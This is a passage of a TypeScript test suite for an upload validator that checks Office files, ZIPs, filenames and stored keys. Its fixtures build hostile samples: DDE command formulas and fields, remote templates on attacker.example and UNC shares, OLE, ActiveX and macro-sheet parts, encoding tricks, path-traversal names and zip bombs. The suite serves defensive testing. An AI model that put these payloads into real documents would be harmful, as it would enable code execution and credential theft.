    const strings = enc(`<sst>${'<si/>'.repeat(300_001)}</sst>`);
    /** The Unicode Path extra field (0x7075): version 1, the CRC-32 of the header's name, the name in UTF-8. */
    const unicodePath = (headerName: string, path: string) => {
      const named = Buffer.from(path, 'utf8');
      const field = Buffer.alloc(9 + named.length);
      field.writeUInt16LE(0x7075, 0);
      field.writeUInt16LE(5 + named.length, 2);
      field.writeUInt8(1, 4);
      field.writeUInt32LE(crc32(Buffer.from(headerName, 'utf8')), 5);
      named.copy(field, 9);
      return new Uint8Array(field);
    };
    const workbook = (entry: ZipEntry) =>
      zip([
        { name: '[Content_Types].xml', data: enc('<Types/>') },
        { name: 'xl/workbook.xml', data: enc('<workbook/>') },
        entry,
      ]);
    const renamed = workbook({ name: 'x.xml', data: strings, extra: unicodePath('x.xml', SHARED) });
    // "C1 AC" is an overlong "l" (JSZip reads every name as UTF-8, Word as code page 437 unless the entry says UTF-8).
    const overlong = workbook({
      name: SHARED,
      rawName: concat(enc(SHARED.slice(0, -1)), new Uint8Array([0xc1, 0xac])),
      data: strings,
    });
    const accented = workbook({ name: 'xl/worksheets/bảng.xml', data: enc('<worksheet/>') });
    expect(Object.keys((await JSZip.loadAsync(renamed)).files)).toContain(SHARED); // what ExcelJS would read
    for (const file of [renamed, overlong, accented]) {
      expect(await reason(file, 'a.xlsx')).toBe(DAMAGED);
      expect(await spreadsheetProblem(file)).toBe('unreadable');
    }
    // Under its own name, the same part is counted and refused.
    expect(await spreadsheetProblem(workbook({ name: SHARED, data: strings }))).toBe('zipBomb');
    // Other extra fields (Word's and Info-ZIP's) are read past.
    const timestamp = new Uint8Array([0x55, 0x54, 0x05, 0x00, 0x01, 0, 0, 0, 0]);
    const stamped = workbook({ name: 'xl/worksheets/sheet1.xml', data: enc('<worksheet/>'), extra: timestamp });
    expect(await sniffedExt(stamped, 'a.xlsx')).toBe('xlsx');
    expect(await spreadsheetProblem(XLSX)).toBeNull();
  });

  it('counts the shared strings ExcelJS reads before any sheet, and gives an import nothing but a workbook (attacker pass 32)', async () => {
    const withStrings = async (xml: string) => {
      const z = await JSZip.loadAsync(XLSX);
      z.file('xl/sharedStrings.xml', xml);
      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    };
    const many = await withStrings(`<sst>${'<si/>'.repeat(MAX_SHARED_STRINGS + 1)}</sst>`);
    expect(many.length).toBeLessThan(100_000);
    expect([await isZipBomb(many), await spreadsheetProblem(many)]).toEqual([true, 'zipBomb']);
    const runs = await withStrings(
      `<sst>${'<si><r/><r/><r/><r/><r/><r/><r/><r/><r/><r/><r/></si>'.repeat(100_001)}</sst>`,
    );
    expect(await isZipBomb(runs)).toBe(true);
    // A real import sheet's strings: 50,000 of a few words each.
    const real = await withStrings(`<sst>${'<si><t>Bộ Tài chính</t></si>'.repeat(50_000)}</sst>`);
    expect([await isZipBomb(real), await spreadsheetProblem(real)]).toEqual([false, null]);
    // A DOCX, a damaged ZIP: refused before ExcelJS opens them; bytes that are no ZIP are the importer's to refuse.
    expect(await spreadsheetProblem(DOCX)).toBe('unreadable');
    expect(await spreadsheetProblem(XLSX.subarray(0, XLSX.length - 10))).toBe('unreadable');
    expect(await spreadsheetProblem(enc('Họ và tên,Email'))).toBeNull();
    // A workbook with macros is still read for its cells.
    expect(await spreadsheetProblem(await withEntry(XLSX, 'xl/vbaProject.bin'))).toBeNull();
  });

  it('refuses macro-enabled Office files', async () => {
    expect(await reason(await withEntry(DOCX, 'word/vbaProject.bin'), 'a.docx')).toBe(MACRO);
    expect(await reason(await withEntry(XLSX, 'xl/vbaProject.bin'), 'a.xlsx')).toBe(MACRO);
    expect(await reason(office('word/document.xml', { name: 'word/VBAPROJECT.BIN' }), 'a.docx')).toBe(MACRO);
  });

  it('refuses Office files that load or run something when opened, and keeps what reports hold (attacker pass 25)', async () => {
    const ACTIVE =
      'Tệp Office chứa đối tượng nhúng, liên kết tới tệp bên ngoài hoặc lệnh DDE, không được chấp nhận. Hãy lưu lại thành PDF rồi chọn lại.';
    const withPart = async (file: Uint8Array, name: string, text: string) => {
      const z = await JSZip.loadAsync(file);
      z.file(name, text);
      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    };
    const rels = (...r: string[]) =>
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`;
    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const template = (target: string) =>
      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${target}" TargetMode="External"/>`;
    const settingsRels = 'word/_rels/settings.xml.rels';
    // A remote template (Word fetches it; a \\host\share address sends the Windows credentials), over http or a share,
    // with its attributes in any order or a ">" inside a value; an OLE object; ActiveX; a workbook's DDE link.
    for (const target of ['http://attacker.example/tpl.dotm', '\\\\attacker\\share\\t.dotm', 'file://attacker/t.dotm'])
      expect(await reason(await withPart(DOCX, settingsRels, rels(template(target))), 'a.docx'), target).toBe(ACTIVE);
    const reordered = `<Relationship TargetMode="External" Target="http://a.example/x>y" Id="r9" Type="${REL}/oleObject"/>`;
    expect(await reason(await withPart(DOCX, 'word/_rels/document.xml.rels', rels(reordered)), 'a.docx')).toBe(ACTIVE);
    expect(await reason(await withPart(DOCX, 'word/embeddings/oleObject1.bin', 'x'), 'a.docx')).toBe(ACTIVE);
    const utf16 = new Uint8Array(
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels(template('x')), 'utf16le')]),
    );
    const z16 = await JSZip.loadAsync(DOCX);
    z16.file(settingsRels, utf16);
    expect(await reason(new Uint8Array(await z16.generateAsync({ type: 'uint8array' })), 'a.docx')).toBe(ACTIVE);
    expect(await reason(await withPart(DOCX, 'word/activeX/activeX1.xml', '<x/>'), 'a.docx')).toBe(ACTIVE);
    const dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';
    expect(await reason(await withPart(XLSX, 'xl/externalLinks/externalLink1.xml', dde), 'a.xlsx')).toBe(ACTIVE);
    // DDE in a sheet's formula, in a Word field (whole, split over runs, or written with a character reference).
    const sheet = (f: string) =>
      `<worksheet><sheetData><row r="1"><c r="A1"><f>${f}</f></c></row></sheetData></worksheet>`;
    expect(await reason(await withPart(XLSX, 'xl/worksheets/sheet1.xml', sheet("cmd|' /C calc'!A0")), 'a.xlsx')).toBe(
      ACTIVE,
    );
    const doc = (body: string) => `<w:document xmlns:w="w"><w:body><w:p>${body}</w:p></w:body></w:document>`;
    for (const body of [
      '<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\'/>',
      '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd "/k calc"</w:instrText></w:r>',
      '<w:r><w:instrText>&#68;DE cmd "/k calc"</w:instrText></w:r>',
    ])
      expect(await reason(await withPart(DOCX, 'word/document.xml', doc(body)), 'a.docx'), body).toBe(ACTIVE);
    // What real reports hold stays: hyperlinks, a picture linked from a web page, a template on the computer's own
    // drive, a chart's embedded workbook, fields such as a table of contents, a formula with "|" inside a string.
    const kept = rels(
      `<Relationship Id="r1" Type="${REL}/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>`,
      `<Relationship Id="r2" Type="${REL}/image" Target="https://baochinhphu.vn/a.jpg" TargetMode="External"/>`,
    );
    let docx = await withPart(DOCX, 'word/_rels/document.xml.rels', kept);
    docx = await withPart(docx, settingsRels, rels(template('file:///C:\\Users\\vanthu\\Mau-cong-van.dotx')));
    docx = await withPart(docx, 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', 'x');
    docx = await withPart(docx, 'word/document.xml', doc('<w:r><w:instrText> TOC \\o "1-3" \\h </w:instrText></w:r>'));
    expect(await sniffedExt(docx, 'bao-cao.docx')).toBe('docx');
    const pipe = await withPart(XLSX, 'xl/worksheets/sheet1.xml', sheet('TEXTJOIN("|",TRUE,A2:A9)'));
    expect(await sniffedExt(pipe, 'a.xlsx')).toBe('xlsx');
  });

  it('reads the fields and formulas of every markup part, wherever the relationships put it (attacker pass 28)', async () => {
    const ACTIVE =
      'Tệp Office chứa đối tượng nhúng, liên kết tới tệp bên ngoài hoặc lệnh DDE, không được chấp nhận. Hãy lưu lại thành PDF rồi chọn lại.';
    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
    const PKG = 'http://schemas.openxmlformats.org/package/2006/relationships';
    const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
    const dde = `<w:document xmlns:w="${W}"><w:body><w:p><w:fldSimple w:instr='DDEAUTO cmd.exe "/k calc"'/></w:p></w:body></w:document>`;
    const edit = async (file: Uint8Array, change: (z: JSZip) => Promise<void>) => {
      const z = await JSZip.loadAsync(file);
      await change(z);
      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    };
    const replaceIn = async (z: JSZip, name: string, from: string | RegExp, to: string) => {
      const text = await z.file(name)!.async('string');
      expect(text).toMatch(from);
      z.file(name, text.replace(from, to));
    };
    // The main document moved where Word and mammoth read it (the package's relationship), a decoy at word/document.xml.
    for (const where of ['doc/main.xml', 'word/sub/document.xml', 'word/main.bin']) {
      const moved = await edit(DOCX, async (z) => {
        await replaceIn(z, '_rels/.rels', /Target="\/?word\/document\.xml"/, `Target="/${where}"`);
        await replaceIn(
          z,
          '[Content_Types].xml',
          '</Types>',
          `<Override PartName="/${where}" ContentType="${MAIN}"/></Types>`,
        );
        z.file(where, dde);
      });
      expect(await reason(moved, 'bao-cao.docx'), where).toBe(ACTIVE);
      // In UTF-16, as Word also reads it.
      const utf16 = await edit(moved, async (z) => {
        z.file(where, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(dde, 'utf16le')]));
      });
      expect(await reason(utf16, 'bao-cao.docx'), `${where} in UTF-16`).toBe(ACTIVE);
    }
    // A sheet moved where Excel reads it, with a DDE formula.
    for (const where of ['xl/ws/sheet1.xml', 'xl/worksheets/sub/sheet1.xml']) {
      const moved = await edit(XLSX, async (z) => {
        await replaceIn(z, 'xl/_rels/workbook.xml.rels', 'Target="worksheets/sheet1.xml"', `Target="/${where}"`);
        await replaceIn(z, '[Content_Types].xml', '/xl/worksheets/sheet1.xml', `/${where}`);
        z.file(
          where,
          `<worksheet><sheetData><row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>`,
        );
      });
      expect(await reason(moved, 'bao-cao.xlsx'), where).toBe(ACTIVE);
    }
    // Content Word merges in on opening (RTF with a DDE field, HTML with a picture on a share), which is not read here.
    for (const [ext, type, chunk] of <[string, string, string][]>[
      ['rtf', 'application/rtf', '{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd.exe "/k calc"}{\\fldrslt x}}}'],
      ['htm', 'text/html', '<html><body><img src="file://attacker.example/share/a.png"></body></html>'],
    ]) {
      const chunked = await edit(DOCX, async (z) => {
        await replaceIn(z, 'word/document.xml', '<w:body>', '<w:body><w:altChunk r:id="rIdChunk"/>');
        const chunkRel = `<Relationship Id="rIdChunk" Type="${REL}/aFChunk" Target="afchunk.${ext}"/>`;
        await replaceIn(z, 'word/_rels/document.xml.rels', '</Relationships>', `${chunkRel}</Relationships>`);
        await replaceIn(
          z,
          '[Content_Types].xml',
          '</Types>',
          `<Default Extension="${ext}" ContentType="${type}"/></Types>`,
        );
        z.file(`word/afchunk.${ext}`, chunk);
      });
      expect(await reason(chunked, 'bao-cao.docx'), ext).toBe(ACTIVE);
    }
    // What acts, known by its relationship's type wherever its part is: an OLE object named as a picture, an ActiveX
    // control, a VBA project, a workbook's DDE link outside xl/externalLinks/.
    const ole = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
    const MS = 'http://schemas.microsoft.com/office/2006/relationships';
    for (const [file, rels, type, target, part, data] of <
      [Uint8Array, string, string, string, string, string | Buffer][]
    >[
      [DOCX, 'word/_rels/document.xml.rels', `${REL}/oleObject`, 'media/image9.png', 'word/media/image9.png', ole],
      [
        DOCX,
        'word/_rels/document.xml.rels',
        `${REL}/control`,
        'controls/ax1.xml',
        'word/controls/ax1.xml',
        '<ax:ocx/>',
      ],
      [DOCX, 'word/_rels/document.xml.rels', `${MS}/vbaProject`, 'media/v.bin', 'word/media/v.bin', ole],
      [XLSX, 'xl/_rels/workbook.xml.rels', `${REL}/externalLink`, 'links/l1.xml', 'xl/links/l1.xml', '<externalLink/>'],
      // An Excel 4.0 macro sheet (EXEC in an Auto_Open name): a macro, whatever the package calls itself.
      [
        XLSX,
        'xl/_rels/workbook.xml.rels',
        `${MS}/xlMacrosheet`,
        'macrosheets/s1.xml',
        'xl/macrosheets/s1.xml',
        '<xm:macrosheet/>',
      ],
      [XLSX, 'xl/_rels/workbook.xml.rels', `${REL}/styles`, 'x.xml', 'xl/x.xml', '<x><ddeLink ddeService="cmd"/></x>'],
    ]) {
      const named = await edit(file, async (z) => {
        await replaceIn(
          z,
          rels,
          '</Relationships>',
          `<Relationship Id="rX" Type="${type}" Target="${target}"/></Relationships>`,
        );
        z.file(part, data);
      });
      expect(await reason(named, file === DOCX ? 'a.docx' : 'a.xlsx'), `${type} ${part}`).toBe(ACTIVE);
    }
    // Relationship attributes as an XML reader reads them: character references, spaces around a value.
    for (const rel of [
      `<Relationship Id="r1" Type="${REL}/attachedTemplate" Target="\\\\a\\s\\t.dotm" TargetMode="&#69;xternal"/>`,
      `<Relationship Id="r1" Type="${REL}/attachedTemplate" Target="http://a/t.dotm" TargetMode=" External "/>`,
      `<Relationship Id="r1" Type="${REL}/oleObjec&#116;" Target="media/x.png"/>`,
    ]) {
      const xml = `<?xml version="1.0"?><Relationships xmlns="${PKG}">${rel}</Relationships>`;
      const related = await edit(DOCX, async (z) => void z.file('word/_rels/settings.xml.rels', xml));
      expect(await reason(related, 'a.docx'), rel).toBe(ACTIVE);
    }
    // Character references, as Excel and Word read them: "|" written `&#124;` or with leading zeros, a string's quotes
    // written `&#34;` so that a "|" between them is outside any string, a field's "D" with leading zeros.
    for (const f of [
      "cmd&#124;' /C calc'!A0",
      "cmd&#x7C;' /C calc'!A0",
      "cmd&#000000124;' /C calc'!A0",
      `"x&#34;&amp;cmd|'/c calc'!A0&amp;"y"`,
      `"x&quot;&amp;cmd|'/c calc'!A0&amp;"y"`,
    ]) {
      const sheet = `<worksheet><sheetData><row r="1"><c r="A1"><f>${f}</f></c></row></sheetData></worksheet>`;
      const referenced = await edit(XLSX, async (z) => void z.file('xl/worksheets/sheet1.xml', sheet));
      expect(await reason(referenced, 'a.xlsx'), f).toBe(ACTIVE);
    }
    // A part in UTF-16 or UTF-32 without a byte-order mark, which an XML reader detects from its first characters.
    const declared = dde.replace('<w:document', '<?xml version="1.0" encoding="UTF-16"?><w:document');
    const le = Buffer.from(declared, 'utf16le');
    for (const [label, bytes] of [
      ['UTF-16LE', le],
      ['UTF-16BE', Buffer.from(le).swap16()],
      ['UTF-32LE', Buffer.from([...declared].flatMap((c) => [c.charCodeAt(0) & 0xff, c.charCodeAt(0) >> 8, 0, 0]))],
    ] as const)
      for (const where of ['word/document.xml', 'doc/main.xml']) {
        const unmarked = await edit(DOCX, async (z) => {
          if (where !== 'word/document.xml') {
            await replaceIn(z, '_rels/.rels', /Target="\/?word\/document\.xml"/, `Target="/${where}"`);
            await replaceIn(
              z,
              '[Content_Types].xml',
              '</Types>',
              `<Override PartName="/${where}" ContentType="${MAIN}"/></Types>`,
            );
          }
          z.file(where, bytes);
        });
        expect(await reason(unmarked, 'a.docx'), `${label} ${where}`).toBe(ACTIVE);
      }
    // CDATA sections, read as the text they are (a "<" inside one, a field's name split over two, a marker cut between
    // two inflated chunks).
    const cdataSheet = (pad: number, f: string) =>
      `<worksheet><sheetData><row r="1"><c r="A1" s="${'0'.repeat(pad)}"><f>${f}</f></c></row></sheetData></worksheet>`;
    for (const pad of [0, ...Array.from({ length: 24 }, (_, i) => 16_320 + i)]) {
      const sheet = cdataSheet(pad, `<![CDATA["a"<cmd|' /C calc'!A0]]>`);
      const hidden = await edit(XLSX, async (z) => void z.file('xl/worksheets/sheet1.xml', sheet));
      expect(await reason(hidden, 'a.xlsx'), `pad ${pad}`).toBe(ACTIVE);
    }
    const cdataField = `<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText><![CDATA[D]]><![CDATA[DEAUTO cmd]]></w:instrText></w:r></w:p></w:body></w:document>`;
    const splitName = await edit(DOCX, async (z) => void z.file('word/document.xml', cdataField));
    expect(await reason(splitName, 'a.docx')).toBe(ACTIVE);
    const harmless = await edit(XLSX, async (z) => {
      z.file('xl/worksheets/sheet1.xml', cdataSheet(0, '<![CDATA[SUM(B1:B9)]]>'));
      z.file('customXml/item1.xml', '<root><![CDATA[<b>a|b</b> & c]]></root>');
    });
    expect(await sniffedExt(harmless, 'a.xlsx')).toBe('xlsx');
    // Formulas Excel evaluates besides a cell's: a defined name a cell refers to, a conditional format's.
    const named = await edit(XLSX, async (z) => {
      const name = `<definedNames><definedName name="x">cmd|' /C calc'!A0</definedName></definedNames>`;
      await replaceIn(z, 'xl/workbook.xml', '</sheets>', `</sheets>${name}`);
      z.file(
        'xl/worksheets/sheet1.xml',
        '<worksheet><sheetData><row r="1"><c r="A1"><f>x</f></c></row></sheetData></worksheet>',
      );
    });
    expect(await reason(named, 'a.xlsx')).toBe(ACTIVE);
    const rule = `<cfRule type="expression" priority="1"><formula>cmd|' /C calc'!A0</formula></cfRule>`;
    const formatted = await edit(XLSX, async (z) => {
      const cf = `<worksheet><sheetData/><conditionalFormatting sqref="A1">${rule}</conditionalFormatting></worksheet>`;
      z.file('xl/worksheets/sheet1.xml', cf);
    });
    expect(await reason(formatted, 'a.xlsx')).toBe(ACTIVE);
    const field = `<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:instrText>&#00000068;DE cmd "/k calc"</w:instrText></w:r></w:p></w:body></w:document>`;
    const zeros = await edit(DOCX, async (z) => void z.file('word/document.xml', field));
    expect(await reason(zeros, 'a.docx')).toBe(ACTIVE);
    // What a real report holds stays: pictures (not markup, not read), a UTF-16 custom XML item, fields elsewhere.
    // A picture whose bytes happen to read as a formula with a "|", or a field that says DDE.
    const picture = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from('<f>x|y<w:fldSimple DDE')]);
    const kept = await edit(DOCX, async (z) => {
      z.file('word/media/image1.png', picture);
      z.file(
        'customXml/item1.xml',
        Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<root><a>x|y</a></root>', 'utf16le')]),
      );
      z.file(
        'word/glossary/document.xml',
        `<w:glossaryDocument xmlns:w="${W}"><w:p><w:fldSimple w:instr=" PAGE "/></w:p></w:glossaryDocument>`,
      );
    });
    expect(await sniffedExt(kept, 'bao-cao.docx')).toBe('docx');
    const quoted = `<worksheet><sheetData><row r="1"><c r="A1"><f>TEXTJOIN(&quot;|&quot;,TRUE,A2:A9)</f></c></row></sheetData></worksheet>`;
    const joined = await edit(XLSX, async (z) => void z.file('xl/worksheets/sheet1.xml', quoted));
    expect(await sniffedExt(joined, 'a.xlsx')).toBe('xlsx');
  });

  it('refuses ZIPs that are not DOCX or XLSX', async () => {
    const z = new JSZip();
    z.file('hello.txt', 'xin chào');
    const plain = new Uint8Array(await z.generateAsync({ type: 'uint8array' }));
    expect(await reason(plain, 'a.docx')).toBe(UNSUPPORTED);
    expect(await reason(zip([{ name: 'word/document.xml' }]), 'a.docx')).toBe(UNSUPPORTED); // no content types
    expect(await reason(office('ppt/presentation.xml'), 'a.pptx')).toBe(UNSUPPORTED);
  });
});

describe('safeDisplayName', () => {
  const pdf: EvidenceType = { mime: 'application/pdf', ext: 'pdf', label: 'PDF' };
  const png: EvidenceType = { mime: 'image/png', ext: 'png', label: 'PNG' };

  it.each([
    ['../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\Windows\\x.pdf', 'x.pdf'],
    ['..\\..\\boot.ini', 'boot.pdf'],
    ['/abs/path/Báo cáo tiến độ Quý I.docx', 'Báo cáo tiến độ Quý I.pdf'],
    ['bao\u0000cao\r\n\t.pdf', 'baocao.pdf'],
    ['hoa-don\u202Efdp.exe', 'hoa-donfdp.pdf'],
    ['.htaccess', 'htaccess.pdf'],
    ['...', 'tep-dinh-kem.pdf'],
    ['', 'tep-dinh-kem.pdf'],
    ['../', 'tep-dinh-kem.pdf'],
    ['Quyết định số 12.2024', 'Quyết định số 12.2024.pdf'],
    ['Ba\u0301o ca\u0301o.pdf', 'Báo cáo.pdf'], // decomposed (macOS) → composed
    ['a<b>:"c|d?*.pdf', 'abcd.pdf'],
    ['Báo cáo %22kết quả%22 quý I.pdf', 'Báo cáo kết quả quý I.pdf'], // as a browser sends "…"
    ['Tờ trình%0Asố 12.pdf', 'Tờ trình số 12.pdf'],
    ['Báo cáo\uffff quý\ufffe I.pdf', 'Báo cáo quý I.pdf'], // what XML cannot carry (attacker pass 29)
  ])('%j → %j', (input, expected) => {
    expect(safeDisplayName(input, pdf)).toBe(expected);
  });

  it('replaces the extension with the sniffed one and caps the length at 150', () => {
    expect(safeDisplayName('anh-chup.pdf', png)).toBe('anh-chup.png');
    const long = safeDisplayName(`${'Nhiệm vụ '.repeat(40)}.pdf`, pdf);
    expect(Array.from(long)).toHaveLength(150);
    expect(long.endsWith('.pdf')).toBe(true);
  });

  it('never yields separators, control or bidi characters, or a leading dot', () => {
    const nasty = ['../../x.pdf', '..\\..\\x', '\u202E\u0007.\u0000..pdf', 'a/b\\c', '\uD800lone.pdf'];
    for (const n of nasty) {
      const out = safeDisplayName(n, pdf);
      expect(out, n).not.toMatch(/[/\\\p{Cc}\p{Cf}\p{Cs}]/u);
      expect(out.startsWith('.'), n).toBe(false);
      expect(out.endsWith('.pdf'), n).toBe(true);
    }
  });
});

describe('contentDisposition', () => {
  it('gives an ASCII fallback and a UTF-8 percent-encoded form', () => {
    const v = contentDisposition('Báo cáo tiến độ.pdf');
    expect(v).toBe(
      `attachment; filename="Bao cao tien do.pdf"; filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20ti%E1%BA%BFn%20%C4%91%E1%BB%99.pdf`,
    );
    expect(v).toContain('%C3%A1');
  });

  it('cannot be broken out of by quotes, CR/LF or other specials', () => {
    const v = contentDisposition('a"b\\c\r\nSet-Cookie: x=1;%(1)\'.pdf');
    expect(v).not.toMatch(/[\r\n]/);
    const ascii = /filename="([^"]*)"/.exec(v)?.[1];
    expect(ascii).toBe("cSet-Cookie x=1__(1)'.pdf"); // backslash is a separator
    expect(v).toMatch(/filename\*=UTF-8''[A-Za-z0-9%!#$&+\-.^_`|~]+$/);
    expect(contentDisposition('')).toBe(`attachment; filename="tep-dinh-kem"; filename*=UTF-8''tep-dinh-kem`);
    expect(contentDisposition('Đề án.pdf')).toContain('filename="De an.pdf"');
  });
});

describe('storage', () => {
  let root: string;
  beforeAll(async () => {
    root = await mkdtemp(path.join(tmpdir(), 'evidence-'));
  });
  afterAll(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it('round-trips bytes under a server-made sharded key, leaving no temp files', async () => {
    const r = await sniffEvidence(DOCX, 'Báo cáo.docx');
    if (!r.ok) throw new Error(r.reason);
    const stored = await storeEvidence(DOCX, r.type, root);
    expect(stored.storageKey).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{32}\.(pdf|docx|xlsx|png|jpg)$/);
    expect(stored.storageKey.endsWith('.docx')).toBe(true);
    expect(stored.storageKey.slice(0, 2)).toBe(stored.storageKey.slice(3, 5));
    expect(stored.sizeBytes).toBe(DOCX.length);
    expect(stored.sha256).toBe(createHash('sha256').update(DOCX).digest('hex'));
    expect(await readEvidence(stored.storageKey, root)).toEqual(DOCX);

    const second = await storeEvidence(DOCX, r.type, root);
    expect(second.storageKey).not.toBe(stored.storageKey);
    const files = (await readdir(root, { recursive: true, withFileTypes: true })).filter((d) => d.isFile());
    expect(files.map((f) => f.name).sort()).toEqual(
      [stored.storageKey, second.storageKey].map((k) => k.slice(3)).sort(),
    );

    await deleteEvidence(stored.storageKey, root);
    // A file gone from the storage is a NOT_FOUND the route answers 404, not a bug.
    const gone = await readEvidence(stored.storageKey, root).catch((e: Error & { code?: string }) => e);
    expect(gone).toMatchObject({ code: 'NOT_FOUND' });
    expect(inVietnamese((gone as Error).message)).toMatch(/không còn trên máy chủ/);
    await deleteEvidence(stored.storageKey, root); // idempotent
    expect(await readEvidence(second.storageKey, root)).toEqual(DOCX);
  });

  it('rejects keys it did not make, so nothing outside the root is reachable', async () => {
    for (const key of ['../../etc/passwd', 'ab/../../x.pdf', '/etc/passwd', 'AB/' + 'a'.repeat(32) + '.pdf', 'x.pdf']) {
      await expect(readEvidence(key, root), key).rejects.toThrow(/Invalid evidence storage key/);
      await expect(deleteEvidence(key, root), key).rejects.toThrow(/Invalid evidence storage key/);
    }
  });

  it('uses STORAGE_DIR or <cwd>/.data/files', () => {
    const saved = process.env.STORAGE_DIR;
    try {
      delete process.env.STORAGE_DIR;
      expect(storageRoot()).toBe(path.join(process.cwd(), '.data', 'files'));
      process.env.STORAGE_DIR = root;
      expect(storageRoot()).toBe(root);
    } finally {
      if (saved === undefined) delete process.env.STORAGE_DIR;
      else process.env.STORAGE_DIR = saved;
    }
  });
});
